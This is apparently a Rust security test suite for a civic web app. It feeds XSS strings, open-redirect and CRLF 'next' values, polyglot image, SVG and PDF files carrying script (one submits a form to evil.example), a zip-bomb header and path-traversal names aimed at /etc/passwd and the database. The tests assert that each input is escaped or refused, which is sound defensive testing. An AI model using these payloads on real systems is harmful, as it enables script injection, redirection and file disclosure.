//! Hostile input, tried where people can type it or send it: markup and script in a name, an
//! organisation, a challenge and its Markdown brief, a question and its answer, a team, an entry, a
//! report and its answer; in the address (searches, forms filled in ahead, a forged error, return
//! paths); and in files that are two things at once (a JPEG that is also a page, an SVG with
//! script, a PDF that runs code, a zip bomb) or named to climb out of their folder. What is typed
//! comes back as the words it is on every page it reaches; what is sent is refused or made harmless.

use crate::common;

use crate::common::{Answer, Backend, PASSWORD, TestApp, Visitor, city, spawn_app};
use app::challenge::model::ChallengeEditor;
use app::entry::model::EntryFiles;
use app::error::AppError;
use app::links::url_encode;
use app::report::model::ReportDetail;
use chrono::{Duration, Utc};
use leptos::server_fn::error::ServerFnUrlError;
use reqwest::StatusCode;
use reqwest::header::HeaderMap;

const SCRIPT: &str = "<script>alert(1)</script>";
const IMG: &str = "\"><img src=x onerror=alert(1)>";
const SVG: &str = "<svg/onload=alert(1)>";
const TITLE_BREAK: &str = "</title><script>alert(1)</script>";
const IFRAME: &str = "'><iframe src=javascript:alert(1)>";
const JS_LINK: &str = "javascript:alert(1)";
/// The server writes a textarea's text unescaped unless told to (see `layout::textarea_text`).
const TEXTAREA_BREAK: &str = "</textarea><script>alert(1)</script>";
/// Each is markup, or an address that runs script, if a page ever prints it as it is.
const CORPUS: [&str; 7] = [
    SCRIPT,
    IMG,
    SVG,
    TITLE_BREAK,
    IFRAME,
    JS_LINK,
    TEXTAREA_BREAK,
];

/// What the corpus looks like once it has become markup (looked for in lower case).
const AS_MARKUP: [&str; 8] = [
    "</title><script",
    "</textarea><script",
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    "<iframe",
    "<a href=\"javascript:",
    "src=\"javascript:",
];

const ORG_NAME: &str = "Phường <svg/onload=alert(1)>";
const DISPLAY_NAME: &str = "Lan \"><img src=x onerror=alert(1)>";
const CHALLENGE_TITLE: &str = "Một cửa </title><script>alert(1)</script>";
const TEAM_NAME: &str = "Nhóm </title><script>alert(1)</script>";
const REPORT_TITLE: &str = "Hàng chờ </title><script>alert(1)</script>";
const QUESTION: &str = "Có được nộp <script>alert(1)</script> không?";
const ANSWER: &str = "Được, cứ gửi '><iframe src=javascript:alert(1)>";
/// A brief written to get script onto the page: script links, raw HTML, an image that runs code.
const BRIEF: &str = "## Bối cảnh\n\n\
    Hàng chờ **hai giờ** mỗi sáng. [Xem thêm](javascript:alert(1)) · \
    [Trang phường](https://tayninh.gov.vn) · [Mẹo](JaVaScRiPt:alert(1))\n\n\
    <iframe src=\"https://evil.example\"></iframe>\n\n\
    Ảnh: <img src=x onerror=alert(1)> ![bản đồ](javascript:alert(1))\n\n\
    <script>alert(1)</script>\n";

const SVG_FILE: &[u8] =
    br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>"#;
const PAGE_FILE: &[u8] = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";

/// Where any of the corpus became markup in `html`, with what is around it.
fn markup_in(path: &str, html: &str) -> Vec<String> {
    let lower = html.to_lowercase();
    AS_MARKUP
        .iter()
        .filter_map(|raw| {
            let at = lower.find(raw)?;
            let (mut from, mut to) = (at.saturating_sub(60), (at + 80).min(lower.len()));
            while !lower.is_char_boundary(from) {
                from -= 1;
            }
            while !lower.is_char_boundary(to) {
                to += 1;
            }
            Some(format!("{path}: {raw:?} as markup: …{}…", &lower[from..to]))
        })
        .collect()
}

/// `payload` is on the page as the words it is: escaped as text, or as an attribute's value.
fn shows_as_text(html: &str, payload: &str) -> bool {
    let text = payload
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    html.contains(&text) || html.contains(&text.replace('"', "&quot;"))
}

/// What is wrong with `path` as `who` sees it: any of the corpus there as markup, or any of
/// `shown` missing as text (without which the first check could pass for nothing).
async fn look(who: &Visitor, path: &str, shown: &[&str]) -> Vec<String> {
    let (status, html) = who.page(path).await;
    let mut problems = markup_in(path, &html);
    if status != StatusCode::OK {
        problems.push(format!("{path}: {status}"));
    }
    problems.extend(
        shown
            .iter()
            .filter(|p| !shows_as_text(&html, p))
            .map(|p| format!("{path}: {p:?} is not on the page as text")),
    );
    problems
}

/// A published challenge of `org`, open for entries, with the corpus in every field staff type.
async fn hostile_challenge(staff: &Visitor, org: i64, all: &str) -> ChallengeEditor {
    let now = Utc::now();
    let form = [
        ("organisation_id", org.to_string()),
        ("form[title]", CHALLENGE_TITLE.to_owned()),
        ("form[summary]", format!("Người dân chờ hai giờ. {all}")),
        ("form[brief]", BRIEF.to_owned()),
        ("form[eligibility]", IFRAME.to_owned()),
        ("form[team_min]", "1".to_owned()),
        ("form[team_max]", "5".to_owned()),
        ("form[category]", "admin_procedures".to_owned()),
        ("form[pilot_budget]", String::new()),
        ("form[prize_label][0]", SVG.to_owned()),
        ("form[prize_amount][0]", "50000000".to_owned()),
        ("form[opens_at]", city(now - Duration::days(1))),
        ("form[entries_close_at]", city(now + Duration::days(20))),
        ("form[judging_closes_at]", city(now + Duration::days(30))),
        ("form[results_at]", city(now + Duration::days(40))),
        ("form[vote_opens_at]", String::new()),
        ("form[vote_closes_at]", String::new()),
    ];
    let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let id = staff
        .call("challenges/create", &pairs)
        .await
        .location()
        .trim_start_matches("/staff/challenges/")
        .to_owned();
    staff.call("challenges/publish", &[("id", &id)]).await.ok();
    staff.call("challenges/editor", &[("id", &id)]).await.json()
}

async fn markup_typed_into_a_challenge_a_team_and_an_entry_comes_back_as_text(backend: Backend) {
    let app = spawn_app(backend).await;
    let (org, staff) = app.org_with_staff(ORG_NAME, "canbo@p1.vn").await;
    let all = CORPUS.join(" ");
    let challenge = hostile_challenge(&staff, org, &all).await;
    let (id, slug) = (challenge.id.to_string(), challenge.slug.clone());
    // A citizen named in markup asks in markup, and the ward answers in kind.
    let owner = app.citizen_named("bao@example.vn", DISPLAY_NAME).await;
    owner
        .call("challenges/ask", &[("id", &id), ("question", QUESTION)])
        .await
        .ok();
    let asked: ChallengeEditor = staff.call("challenges/editor", &[("id", &id)]).await.json();
    let question = asked.questions[0].id.to_string();
    staff
        .call(
            "challenges/answer",
            &[("question_id", &question), ("answer", ANSWER)],
        )
        .await
        .ok();
    // The same citizen forms a team and drafts an entry the same way.
    let contact = format!("0909 123 456 {IFRAME}");
    let team = owner
        .call(
            "teams/create",
            &[
                ("challenge_id", &id),
                ("name", TEAM_NAME),
                ("organisation_name", SVG),
                ("description", &all),
                ("contact", &contact),
            ],
        )
        .await
        .location()
        .trim_start_matches("/teams/")
        .to_owned();
    owner
        .call(
            "entries/save",
            &[
                ("team_id", &team),
                ("version", "0"),
                ("entry[title]", TEAM_NAME),
                ("entry[summary]", &all),
                ("entry[solution]", BRIEF),
            ],
        )
        .await
        .ok();

    let anyone = app.visitor();
    let mut problems = Vec::new();
    for (who, path, shown) in [
        (&anyone, format!("/challenges/{slug}"), &CORPUS[..]),
        (&anyone, "/challenges".to_owned(), &[TITLE_BREAK][..]),
        (&anyone, "/organisations".to_owned(), &[SVG][..]),
        (
            &anyone,
            format!("/challenges/{slug}/feed.atom"),
            &[TITLE_BREAK][..],
        ),
        (
            &owner,
            format!("/teams/{team}"),
            &[SCRIPT, IMG, SVG, TITLE_BREAK, IFRAME][..],
        ),
        (&owner, "/teams".to_owned(), &[TITLE_BREAK][..]),
        (&owner, "/notifications".to_owned(), &[TITLE_BREAK, IMG][..]),
        (&owner, "/account".to_owned(), &[IMG][..]),
        (
            &staff,
            format!("/staff/challenges/{id}"),
            &[TITLE_BREAK][..],
        ),
    ] {
        problems.extend(look(who, &path, shown).await);
    }
    let (_, mailbox) = anyone.page("/dev/mailbox").await;
    problems.extend(markup_in("/dev/mailbox", &mailbox));

    // The brief's Markdown is rendered; its script links and raw HTML are not.
    let (_, html) = anyone.page(&format!("/challenges/{slug}")).await;
    assert!(
        html.contains("<strong>hai giờ</strong>"),
        "the Markdown is rendered"
    );
    assert!(html.contains(r#"<a href="https://tayninh.gov.vn">Trang phường</a>"#));
    assert!(
        html.contains(r##"<a href="#">Xem thêm</a>"##) && html.contains(r##"<a href="#">Mẹo</a>"##),
        "script links lead nowhere"
    );
    assert!(shows_as_text(
        &html,
        "<iframe src=\"https://evil.example\"></iframe>"
    ));
    // The open data answers JSON, which no browser takes for a page.
    let api = anyone.get(&format!("/api/v1/challenges/{slug}")).await;
    let kind = api.headers()["content-type"].to_str().unwrap().to_owned();
    assert!(kind.starts_with("application/json"), "{kind}");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

async fn markup_typed_into_a_report_and_its_answer_comes_back_as_text(backend: Backend) {
    let app = spawn_app(backend).await;
    let (org, staff) = app.org_with_staff(ORG_NAME, "canbo@p1.vn").await;
    let author = app.citizen("lan@example.vn").await;
    let all = CORPUS.join(" ");
    let filed = author
        .call_multipart(
            "reports/create",
            &[
                ("organisation_id", &org.to_string()),
                ("category", "admin_procedures"),
                ("title", REPORT_TITLE),
                ("description", &all),
            ],
            None,
        )
        .await;
    let id = filed.location().trim_start_matches("/reports/").to_owned();
    staff
        .call(
            "reports/triage",
            &[("id", &id), ("decision", "answer"), ("text", ANSWER)],
        )
        .await
        .ok();
    let admin = app.admin().await;
    let anyone = app.visitor();
    let mut problems = Vec::new();
    for (who, path, shown) in [
        (&anyone, format!("/reports/{id}"), &CORPUS[..]),
        (&anyone, "/reports".to_owned(), &[TITLE_BREAK][..]),
        (&anyone, "/feed.atom".to_owned(), &[][..]),
        (&author, "/notifications".to_owned(), &[TITLE_BREAK][..]),
        (&admin, "/admin".to_owned(), &[SVG][..]),
        // The answer is the public reason on the record.
        (&admin, "/admin/audit".to_owned(), &[IFRAME][..]),
        (
            &admin,
            format!("/admin/audit?action={}", url_encode(SCRIPT)),
            &[SCRIPT][..],
        ),
    ] {
        problems.extend(look(who, &path, shown).await);
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

async fn script_in_an_address_is_shown_as_text_and_never_followed(backend: Backend) {
    let app = spawn_app(backend).await;
    let v = app.visitor();
    let all = url_encode(&CORPUS.join(" "));
    let mut problems = Vec::new();
    // Links anyone could send round: a search, a sign-in form filled in ahead, filters, codes.
    problems.extend(look(&v, &format!("/challenges?q={all}"), &CORPUS).await);
    let sign_in = format!(
        "/sign-in?email={}&next={}",
        url_encode(SCRIPT),
        url_encode(IMG)
    );
    problems.extend(look(&v, &sign_in, &[SCRIPT, IMG]).await);
    for path in [
        format!("/reports?status={all}&category={all}&sort={all}"),
        format!("/pilots?organisation_id={all}&status={all}"),
        format!("/register?email={all}&code={all}"),
        format!("/verify?email={all}"),
        format!("/reset-password?email={all}&code={all}"),
    ] {
        let (_, html) = v.page(&path).await;
        problems.extend(markup_in(&path, &html));
    }
    // An error in the address that is not the site's own is replaced before the page is made…
    let forged = ServerFnUrlError::new("/api/account/register", AppError::conflict(SCRIPT))
        .to_url(&format!("{}/register", v.base))
        .unwrap();
    let answer = v
        .get(&format!("/register?{}", forged.query().unwrap()))
        .await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    let location = answer.headers()["location"].to_str().unwrap().to_owned();
    let (_, html) = v.page(&location).await;
    problems.extend(markup_in(&location, &html));
    assert!(
        !html.contains("alert(1)"),
        "the forged words never show, even as text"
    );
    // …and one of its own naming a field in markup stays words.
    let named = ServerFnUrlError::new(
        "/api/account/register",
        AppError::invalid(IMG, "error.credentials"),
    )
    .to_url(&format!("{}/register", v.base))
    .unwrap();
    let path = format!("/register?{}", named.query().unwrap());
    let (status, html) = v.page(&path).await;
    assert_eq!(status, StatusCode::OK);
    problems.extend(markup_in(&path, &html));
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // After signing in, only a path on this site is followed, and nothing is added to the answer.
    app.citizen("lan@example.vn").await;
    for (next, expected) in [
        ("javascript:alert(1)", "/"),
        ("JaVaScRiPt:alert(1)", "/"),
        (" /javascript:alert(1)", "/"),
        ("data:text/html,<script>alert(1)</script>", "/"),
        ("/\"><script>alert(1)</script>", "/"),
        ("//evil.example/%2e%2e", "/"),
        ("/\\evil.example", "/"),
        ("\\\\evil.example", "/"),
        ("https:evil.example", "/"),
        ("/\r\nSet-Cookie: bi-danh=1", "/"),
        ("/%0d%0aSet-Cookie:bi-danh=1", "/%0d%0aSet-Cookie:bi-danh=1"),
        (
            "/challenges?q=javascript:alert(1)",
            "/challenges?q=javascript:alert(1)",
        ),
    ] {
        let answer = app
            .visitor()
            .call(
                "account/sign-in",
                &[
                    ("email", "lan@example.vn"),
                    ("password", PASSWORD),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(answer.location(), expected, "next = {next:?}");
        assert!(
            !answer
                .headers
                .get_all("set-cookie")
                .iter()
                .any(|c| c.to_str().unwrap_or_default().contains("bi-danh")),
            "next = {next:?}"
        );
    }
    // The language switch goes back the same way.
    for back in [
        "javascript:alert(1)",
        "https://evil.example",
        "//evil.example",
        "/\"><script>alert(1)</script>",
    ] {
        let switched = v.switch_language("en", Some(back)).await;
        assert_eq!(switched.headers()["location"], "/", "back = {back:?}");
    }
}

/// Served as what it is, never sniffed into something else, and sandboxed were it ever opened
/// as a page.
fn assert_cannot_run(path: &str, headers: &HeaderMap, content_type: &str) {
    assert_eq!(headers["content-type"], content_type, "{path}");
    assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.contains("sandbox") && policy.contains("default-src 'none'"),
        "{path}: {policy}"
    );
}

/// A stored file as `who` downloads it: its headers and its bytes.
async fn download(who: &Visitor, path: &str) -> (HeaderMap, Vec<u8>) {
    let served = who.get(path).await;
    assert_eq!(served.status(), StatusCode::OK, "{path}");
    let headers = served.headers().clone();
    (headers, served.bytes().await.unwrap().to_vec())
}

/// The bytes of a file as text, where markup or a script's words would show.
fn text_of(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A JPEG whose comment and scan data carry a web page: a browser that guessed the type from the
/// bytes would run it.
fn jpeg_that_is_also_a_page() -> Vec<u8> {
    let segment = common::jpeg_segment;
    let mut jpeg = vec![0xFF, 0xD8];
    jpeg.extend(segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"));
    jpeg.extend(segment(
        0xFE,
        b"<html><body><script>alert('comment')</script>",
    ));
    jpeg.extend(segment(0xDB, &[0; 65]));
    jpeg.extend([0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0]);
    jpeg.extend(b"<script>alert('scan')</script></body></html>");
    jpeg.extend([0xFF, 0xD9]);
    jpeg
}

async fn an_image_that_is_also_a_page_is_refused_or_served_so_it_cannot_run(backend: Backend) {
    let app = spawn_app(backend).await;
    let (org, _) = app.org_with_staff("Phường 1", "canbo@p1.vn").await;
    let citizen = app.citizen("lan@example.vn").await;
    // Pages and scripts under an image's name, or behind an image's first bytes, are refused.
    let glued = |head: &[u8]| [head, PAGE_FILE].concat();
    for (name, bytes) in [
        ("ban-do.svg", SVG_FILE.to_vec()),
        ("ban-do.png", SVG_FILE.to_vec()),
        ("anh.jpg", PAGE_FILE.to_vec()),
        ("anh.png", glued(b"\x89PNG\r\n\x1a\n")),
        ("anh.webp", glued(b"RIFF\x40\0\0\0WEBP")),
        ("anh.gif", glued(b"GIF89a")),
    ] {
        let refused = citizen.file_report(org, name, bytes).await;
        assert_eq!(refused.invalid_fields(), ["photo"], "{name}");
    }
    assert_eq!(app.scalar("SELECT COUNT(*) FROM reports").await, 0);
    assert_eq!(app.scalar("SELECT COUNT(*) FROM uploads").await, 0);

    // A JPEG that is also a page is a JPEG: kept under an image's name, served as one whatever
    // the address calls it, and sandboxed.
    let filed = citizen
        .file_report(org, "trang.html", jpeg_that_is_also_a_page())
        .await;
    let id = filed.location().trim_start_matches("/reports/").to_owned();
    let report: ReportDetail = app
        .visitor()
        .call("reports/get", &[("id", &id)])
        .await
        .json();
    let photo = report.photo.expect("the photo is kept");
    assert_eq!(
        (photo.name.as_str(), photo.content_type.as_str()),
        ("trang.jpg", "image/jpeg")
    );
    for path in [photo.url(), format!("/files/{}/trang.html", photo.id)] {
        let (headers, bytes) = download(&app.visitor(), &path).await;
        assert_cannot_run(&path, &headers, "image/jpeg");
        assert_eq!(
            headers["content-disposition"],
            "inline; filename=\"trang.jpg\""
        );
        assert!(bytes.starts_with(&[0xFF, 0xD8, 0xFF]));
        assert!(
            !text_of(&bytes).contains("alert('comment')"),
            "the page in its comment is gone"
        );
    }
}

/// The head of a zip whose one member says it unpacks to 4 GB from a kilobyte: a zip bomb's shape.
fn zip_bomb() -> Vec<u8> {
    let mut zip = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".to_vec();
    zip.extend(1_000u32.to_le_bytes());
    zip.extend(u32::MAX.to_le_bytes());
    zip.extend(8u16.to_le_bytes());
    zip.extend(0u16.to_le_bytes());
    zip.extend(b"bomb.txt");
    zip.extend([0u8; 1_000]);
    zip
}

/// A published challenge open for entries (its staff and id) and a team of one in it (its owner
/// and id).
async fn team_in_open_challenge(app: &TestApp) -> (Visitor, String, Visitor, i64) {
    let (org, staff) = app.org_with_staff("Phường 1", "canbo@p1.vn").await;
    let challenge = app
        .open_challenge(&staff, org, Duration::days(20), None)
        .await;
    let owner = app.citizen("bao@example.vn").await;
    let team = owner.create_team(&challenge, "Nhóm Sen Hồng").await;
    (staff, challenge, owner, team)
}

async fn attach(owner: &Visitor, team: i64, name: &str, bytes: Vec<u8>) -> Answer {
    owner
        .call_multipart(
            "entries/files/add",
            &[("team_id", &team.to_string())],
            Some(("file", name, bytes)),
        )
        .await
}

async fn files(owner: &Visitor, team: i64) -> EntryFiles {
    owner
        .call("entries/files", &[("team_id", &team.to_string())])
        .await
        .json()
}

async fn files_that_are_not_what_their_names_say_are_refused(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, _, owner, team) = team_in_open_challenge(&app).await;
    for (name, bytes) in [
        ("so-do.svg", SVG_FILE.to_vec()),
        ("so-do.pdf", SVG_FILE.to_vec()),
        ("bai-du-thi.pdf", PAGE_FILE.to_vec()),
        (
            "bai-du-thi.pdf",
            [b"%PDF-1.7\n".as_slice(), PAGE_FILE].concat(),
        ),
        ("bai-du-thi.zip", zip_bomb()),
        ("bai-du-thi.pdf", zip_bomb()),
    ] {
        let refused = attach(&owner, team, name, bytes).await;
        assert_eq!(refused.invalid_fields(), ["file"], "{name}");
    }
    assert!(files(&owner, team).await.files.is_empty());
    assert_eq!(app.scalar("SELECT COUNT(*) FROM uploads").await, 0);
}

/// A day's uploads of one account are capped by their bytes, counted as sent (a refused or
/// damaged file counts too): an account cannot fill the disk overnight, and a file past the cap
/// is refused with the reason, keeping what was stored before.
async fn an_account_uploads_at_most_its_days_bytes(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, challenge, owner, team) = team_in_open_challenge(&app).await;
    let pdf = common::tiny_pdf();
    attach(&owner, team, "bai-1.pdf", pdf.clone()).await.ok();
    let charged = || app.scalar("SELECT hits FROM throttles WHERE bucket LIKE 'upload_bytes%'");
    assert_eq!(charged().await, pdf.len() as i64);
    let damaged = b"%PDF-1.7 khong doc duoc ".repeat(8);
    let refused = attach(&owner, team, "hong.pdf", damaged.clone()).await;
    assert_eq!(refused.invalid_fields(), ["file"]);
    assert_eq!(
        charged().await,
        (pdf.len() + damaged.len()) as i64,
        "a file that could not be read counts as sent"
    );
    // As if the day's uploads had nearly reached the cap.
    let cap = app::upload::service::BYTES_PER_ACCOUNT_PER_DAY.max;
    let room = pdf.len() as i64 + 10;
    app.scalar(&format!(
        "UPDATE throttles SET hits = {} WHERE bucket LIKE 'upload_bytes%' RETURNING hits",
        cap - room
    ))
    .await;
    attach(&owner, team, "bai-2.pdf", pdf.clone()).await.ok();
    let refused = attach(&owner, team, "bai-3.pdf", pdf.clone()).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        matches!(refused.error(), AppError::Invalid(fields) if fields[0].key == "error.upload_quota")
    );
    assert_eq!(
        files(&owner, team).await.files.len(),
        2,
        "what was stored stays"
    );
    assert_eq!(app.scalar("SELECT COUNT(*) FROM uploads").await, 2);
    // Another account has its own day.
    let other = app.citizen("lan@example.vn").await;
    let theirs = other.create_team(&challenge, "Nhóm Lúa Vàng").await;
    attach(&other, theirs, "bai-1.pdf", pdf).await.ok();
}

/// A one-page PDF with script in every place a reader looks for it: on opening, in the document's
/// names, when the page opens, and behind a link (that one a stream of its own).
fn pdf_with_scripts_everywhere() -> Vec<u8> {
    let page = "BT /F1 28 Tf 72 720 Td (Ke hoach thi diem) Tj ET";
    let script = "app.alert('bam vao'); this.submitForm('https://evil.example');";
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(mo) 6 0 R] >> >> >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R] >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{page}\nendstream", page.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        "<< /S /JavaScript /JS (app.alert('mo tep')) >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /JavaScript /JS 8 0 R >> >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{script}\nendstream", script.len()),
    ];
    app::demo::pdf::document(&objects, "").into_bytes()
}

async fn a_pdf_loses_every_script_before_anyone_downloads_it(backend: Backend) {
    let app = spawn_app(backend).await;
    let (staff, challenge, owner, team) = team_in_open_challenge(&app).await;
    // A team's deck that runs a script when opened.
    attach(
        &owner,
        team,
        "Thuyết trình.pdf",
        common::telling_pdf("Nhom Sen Hong"),
    )
    .await
    .ok();
    let deck = files(&owner, team).await.files[0].file.clone();
    let (headers, bytes) = download(&owner, &deck.url()).await;
    let text = text_of(&bytes);
    assert_cannot_run(&deck.url(), &headers, "application/pdf");
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert!(text.starts_with("%PDF-"));
    for gone in ["JavaScript", "app.alert", "OpenAction"] {
        assert!(!text.contains(gone), "{gone} is still in the team's deck");
    }
    // A ward's attachment with script everywhere, as the public downloads it.
    staff
        .call_multipart(
            "challenges/files/add",
            &[("challenge_id", &challenge), ("purpose", "attachment")],
            Some(("file", "ke-hoach.pdf", pdf_with_scripts_everywhere())),
        )
        .await
        .ok();
    let e: ChallengeEditor = staff
        .call("challenges/editor", &[("id", &challenge)])
        .await
        .json();
    let plan = e.attachments[0].url();
    let (headers, bytes) = download(&app.visitor(), &plan).await;
    let text = text_of(&bytes);
    assert_cannot_run(&plan, &headers, "application/pdf");
    assert!(text.starts_with("%PDF-"));
    for gone in ["app.alert", "submitForm", "/JS", "OpenAction", "/AA"] {
        assert!(!text.contains(gone), "{gone} is still in the attachment");
    }
    // A page glued after a PDF's end: refused, or gone once the PDF is written again.
    let glued = [common::tiny_pdf().as_slice(), PAGE_FILE].concat();
    let answer = attach(&owner, team, "ghep.pdf", glued).await;
    if answer.status.is_success() {
        let list = files(&owner, team).await.files;
        let kept = list
            .iter()
            .find(|f| f.file.name == "ghep.pdf")
            .expect("kept");
        let (_, bytes) = download(&owner, &kept.file.url()).await;
        assert!(
            !text_of(&bytes).contains("<script"),
            "the glued page is gone"
        );
    } else {
        assert_eq!(answer.invalid_fields(), ["file"]);
    }
}

async fn file_names_and_file_addresses_cannot_climb_out_of_their_folder(backend: Backend) {
    let app = spawn_app(backend).await;
    let (staff, challenge, owner, team) = team_in_open_challenge(&app).await;
    let long = format!("{}.pdf", "Bài dự thi rất dài ".repeat(40));
    let names = [
        "../../etc/passwd.pdf",
        "..\\..\\Windows\\win.ini.pdf",
        "/var/lib/vidan/test.db",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd.pdf",
        "....//....//Kế hoạch.pdf",
        ".htaccess",
        long.as_str(),
    ];
    for name in names {
        attach(&owner, team, name, common::tiny_pdf()).await.ok();
    }
    let list = files(&owner, team).await.files;
    let stored: Vec<&str> = list.iter().map(|f| f.file.name.as_str()).collect();
    assert_eq!(stored.len(), names.len());
    for name in &stored {
        assert!(
            name.len() <= 80
                && name.ends_with(".pdf")
                && !name.contains("..")
                && name
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-.".contains(&b)),
            "{name}"
        );
    }
    assert_eq!(
        (stored[0], stored[4], stored[5]),
        ("passwd.pdf", "ke-hoach.pdf", "tep.pdf")
    );
    // A team's file goes out under the server's own name, whatever it was sent as.
    for f in &list {
        let served = owner.get(&f.file.url()).await;
        assert_eq!(
            served.headers()["content-disposition"],
            format!("attachment; filename=\"vidan-{}.pdf\"", f.file.id).as_str()
        );
    }

    // A public file: the name in its address is only for people to read.
    staff
        .call_multipart(
            "challenges/files/add",
            &[("challenge_id", &challenge), ("purpose", "attachment")],
            Some(("file", "../../../etc/passwd.pdf", common::tiny_pdf())),
        )
        .await
        .ok();
    let e: ChallengeEditor = staff
        .call("challenges/editor", &[("id", &challenge)])
        .await
        .json();
    let file = &e.attachments[0];
    assert_eq!(file.name, "passwd.pdf");
    let anyone = app.visitor();
    let original = anyone.get(&file.url()).await.bytes().await.unwrap();
    for name in [
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%5c..%5cwindows%5cwin.ini",
        "..%252f..%252fetc%252fpasswd",
    ] {
        let path = format!("/files/{}/{name}", file.id);
        let served = anyone.get(&path).await;
        match served.status() {
            StatusCode::OK => {
                assert_eq!(
                    served.headers()["content-disposition"],
                    "attachment; filename=\"passwd.pdf\"",
                    "{path}"
                );
                assert_eq!(served.bytes().await.unwrap(), original, "{path}");
            }
            StatusCode::NOT_FOUND => {}
            other => panic!("{path}: {other}"),
        }
    }
    // Climbs sent as written reach nothing outside what the app serves (the SQLite database
    // lies two folders above the site's code).
    for path in [
        format!("/files/{}/../../../etc/passwd", file.id),
        format!("/files/{}/..\\..\\etc\\passwd", file.id),
        "/files/../../../etc/passwd".to_owned(),
        "/pkg/../../test.db".to_owned(),
        "/pkg/..%2f..%2ftest.db".to_owned(),
        "/pkg/%2e%2e/%2e%2e/test.db".to_owned(),
        "/fonts/..%2f..%2ftest.db".to_owned(),
        "/../../test.db".to_owned(),
    ] {
        let (status, answer) = common::raw_exchange(
            &app.base,
            &format!("GET {path} HTTP/1.1"),
            "Connection: close\r\n",
        )
        .await;
        assert!(
            !answer.contains("root:x:0:0") && !answer.contains("SQLite format"),
            "{path}: {status}"
        );
        assert!(
            matches!(status, 400 | 404) || (status == 200 && answer.contains("%PDF-")),
            "{path}: {status}"
        );
    }
}

on_both_databases!(
    markup_typed_into_a_challenge_a_team_and_an_entry_comes_back_as_text,
    markup_typed_into_a_report_and_its_answer_comes_back_as_text,
    script_in_an_address_is_shown_as_text_and_never_followed,
    an_image_that_is_also_a_page_is_refused_or_served_so_it_cannot_run,
    files_that_are_not_what_their_names_say_are_refused,
    an_account_uploads_at_most_its_days_bytes,
    a_pdf_loses_every_script_before_anyone_downloads_it,
    file_names_and_file_addresses_cannot_climb_out_of_their_folder,
);
